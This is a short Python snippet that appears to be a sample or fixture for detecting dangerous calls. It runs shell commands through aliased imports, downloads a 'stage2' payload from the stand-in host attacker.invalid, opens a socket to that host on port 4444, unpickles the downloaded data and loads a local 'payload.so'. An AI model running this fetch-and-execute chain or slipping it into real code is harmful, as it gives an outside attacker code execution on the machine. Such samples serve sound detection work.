import subprocess as sp
from os import system as run_shell, popen
from urllib.request import urlopen
import socket, pickle
from ctypes import *

sp.Popen(['id'])
run_shell('id')
handle = popen
data = urlopen('http://attacker.invalid/stage2').read()
conn = socket.create_connection(('attacker.invalid', 4444))
obj = pickle.loads(data)
lib = CDLL('./payload.so')
